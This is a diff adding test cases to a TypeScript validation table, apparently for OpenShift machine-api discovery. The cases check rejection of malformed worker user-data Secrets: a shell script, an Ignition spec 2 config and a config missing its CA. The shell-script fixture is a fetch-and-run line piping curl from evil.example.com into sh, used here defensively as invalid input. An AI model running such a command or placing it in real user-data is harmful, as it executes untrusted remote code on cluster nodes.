@@ -325,6 +325,21 @@ const rows: Row[] = [
     error: { reason: 'UserDataSecretMissing', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData' },
   },
   {
+    name: 'user-data Secret holding a shell script',
+    input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: '#!/bin/bash\ncurl -s http://evil.example.com | sh' })] }),
+    error: { reason: 'InvalidUserData', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData', message: /not an Ignition pointer config: not JSON$/ },
+  },
+  {
+    name: 'user-data Secret with an Ignition spec 2 config',
+    input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: pointerUserData().replace('"3.2.0"', '"2.2.0"'), as: 'stringData' })] }),
+    error: { reason: 'InvalidUserData', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData', message: /ignition\.version "2\.2\.0"/ },
+  },
+  {
+    name: 'user-data Secret without the MCS CA',
+    input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: JSON.stringify({ ignition: { ...JSON.parse(pointerUserData()).ignition, security: {} } }) })] }),
+    error: { reason: 'InvalidUserData', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData', message: /certificateAuthorities holds no CA/ },
+  },
+  {
     name: 'malformed providerSpec: ami.id is a number',
     input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { ami: { id: 42 } } })] }),
     error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.ami.id` },
